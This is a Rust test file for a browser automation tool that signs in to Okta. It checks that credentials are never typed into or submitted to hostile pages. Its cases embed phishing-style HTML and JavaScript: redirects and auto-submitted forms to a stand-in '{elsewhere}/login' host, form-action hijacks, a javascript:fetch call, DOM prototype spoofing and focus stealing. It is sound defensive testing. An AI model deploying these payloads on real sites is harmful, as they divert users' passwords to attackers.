//! Pages and forms that lead elsewhere: nothing is typed, or nothing submitted.

use okta_e2e::browser::{BrowserError, Danger, Landing};
use rstest::rstest;

use super::hostile::{Hostile, Visited};

/// Where it would have gone, by the landing.
fn untrusted(visited: &Visited) -> (Danger, String) {
    match &visited.landing {
        Ok(Landing::Untrusted {
            danger,
            origin,
            evidence,
        }) => {
            assert!(evidence.screenshot_png.is_some(), "{evidence:?}");
            (*danger, origin.clone())
        }
        other => panic!("{other:?}"),
    }
}

#[rstest]
#[case::by_a_script("<script>location = '{elsewhere}/login'</script>")]
#[case::by_a_meta_tag("<meta http-equiv='refresh' content='0;url={elsewhere}/login'>")]
#[case::by_a_form_that_is_sent_by_itself(
    "<form method='post' action='{elsewhere}/login'></form>\
     <script>document.forms[0].submit()</script>"
)]
#[case::after_a_while(
    "<script>setTimeout(() => { location = '{elsewhere}/login' }, 200)</script>{form}"
)]
#[tokio::test]
async fn nothing_is_typed_into_a_page_of_another_origin(#[case] page: &str) {
    let org = Hostile::showing(page).await;
    let visited = org.sign_in().await;
    assert_eq!(untrusted(&visited), (Danger::Page, org.elsewhere.clone()));
    assert_eq!(org.leaked(), Vec::<String>::new());
    assert_eq!(visited.passwords_submitted, 0);
}

#[rstest]
#[case::its_action("<form method='post' action='{elsewhere}/login'>{fields}</form>")]
#[case::its_button(
    "<form method='post' action='{here}'>{inputs}\
     <button formaction='{elsewhere}/login'>Sign in</button></form>"
)]
#[case::a_field_hides_its_action(
    "<form method='post' action='{elsewhere}/login'><input type='hidden' name='action' value='/'>\
     {fields}</form>"
)]
#[case::the_base_of_the_page(
    "<base href='{elsewhere}/'><form method='post' action='login'>{fields}</form>"
)]
#[case::the_page_lies_about_it(
    "<script>Object.defineProperty(HTMLFormElement.prototype, 'action', { get: () => location.href });\
     Element.prototype.getAttribute = () => null;\
     URL = function () { return { origin: location.origin } }</script>\
     <form method='post' action='{elsewhere}/login'>{fields}</form>"
)]
#[case::fields_of_another_form(
    "<form id='other' method='post' action='{elsewhere}/login'></form><form action='{here}'>\
     <input form='other' name='username'><input form='other' name='password' type='password'>\
     <button form='other'>Sign in</button></form>"
)]
#[case::a_script("<form action=\"javascript:fetch('{elsewhere}/login')\">{fields}</form>")]
#[tokio::test]
async fn nothing_is_typed_into_a_form_that_leads_elsewhere(#[case] page: &str) {
    let org = Hostile::showing(&with_fields(page)).await;
    let visited = org.sign_in().await;
    let (danger, origin) = untrusted(&visited);
    assert_eq!(danger, Danger::Form);
    assert!(
        [org.elsewhere.as_str(), "javascript:"].contains(&origin.as_str()),
        "{origin}"
    );
    assert_eq!(org.typed(), Vec::<String>::new());
    assert_eq!(org.leaked(), Vec::<String>::new());
    assert_eq!(visited.passwords_submitted, 0);
}

#[rstest]
#[case::at_once("")]
#[case::while_it_is_typed_into(
    "<script>document.forms[0].addEventListener('input', () => \
     { document.forms[0].action = '{elsewhere}/login' })</script>"
)]
#[case::when_the_user_is_about_to_click(
    "<script>document.querySelector('[type=password]').addEventListener('blur', () => \
     { document.forms[0].action = '{elsewhere}/login' });\
     document.forms[0].addEventListener('input', (event) => \
     { if (event.target.type === 'password') document.querySelector('button').focus() })</script>"
)]
#[tokio::test]
async fn a_form_that_changes_its_target_is_not_submitted(#[case] script: &str) {
    let page = format!("<h1>Sign in</h1>{{form}}{script}");
    let org = Hostile::showing(&page).await;
    let visited = org.sign_in().await;
    assert_eq!(org.leaked(), Vec::<String>::new());
    if script.is_empty() {
        assert_eq!(visited.passwords_submitted, 1);
        return;
    }
    assert_eq!(untrusted(&visited).0, Danger::Form);
    assert_eq!(org.answers(), Vec::<String>::new());
    assert_eq!(visited.passwords_submitted, 0);
}

#[rstest]
#[case::in_another_window("method='post' target='_blank'", Danger::Window)]
#[case::in_a_frame("method='post' target='frame'", Danger::Window)]
#[case::by_the_address("method='get'", Danger::Address)]
#[tokio::test]
async fn a_form_that_would_show_or_lose_the_password_is_not_submitted(
    #[case] attributes: &str,
    #[case] expected: Danger,
) {
    let page = format!("<form {attributes} action='/answer'>{{fields}}</form>");
    let org = Hostile::showing(&with_fields(&page)).await;
    let visited = org.sign_in().await;
    assert_eq!(untrusted(&visited).0, expected);
    assert_eq!(org.typed(), Vec::<String>::new());
}

#[tokio::test]
async fn what_a_page_moves_the_focus_to_gets_nothing() {
    let page = "<form action='{elsewhere}/login' method='post'><input id='other'></form>{form}\
        <script>document.querySelector('[type=password]').addEventListener('focus', () => \
        document.getElementById('other').focus())</script>";
    let org = Hostile::showing(page).await;
    let visited = org.sign_in().await;
    assert!(
        matches!(visited.landing, Err(BrowserError::Typing { .. })),
        "{:?}",
        visited.landing
    );
    let typed = org.typed();
    assert!(
        !typed.iter().any(|line| line.contains("Correct-horse")),
        "{typed:?}"
    );
    assert_eq!(org.leaked(), Vec::<String>::new());
}

#[rstest]
#[case::a_script("javascript:alert(1)", "`javascript:`")]
#[case::a_document(
    "data:text/html,<form><input name=username><input type=password>",
    "`data:`"
)]
#[case::a_file("file:///etc/hostname", "`file:`")]
#[case::credentials(
    "http://user:hunter22@127.0.0.1:9/authorize",
    "a user name or a password"
)]
#[tokio::test]
async fn an_authorization_endpoint_that_is_none_is_not_opened(
    #[case] address: &str,
    #[case] said: &str,
) {
    let org = Hostile::showing("{form}").await;
    let visited = org.visit_patiently(&address.parse().unwrap()).await;
    let error = visited.landing.unwrap_err();
    assert!(matches!(error, BrowserError::Address { .. }), "{error:?}");
    let text = error.to_string();
    assert!(text.contains(said) && !text.contains("hunter22"), "{text}");
}

/// A page with the fields of a sign-in form, and its button, put where it says so.
fn with_fields(page: &str) -> String {
    let inputs = "<input name='username'><input name='password' type='password'>";
    page.replace("{fields}", "{inputs}<button>Sign in</button>")
        .replace("{inputs}", inputs)
}
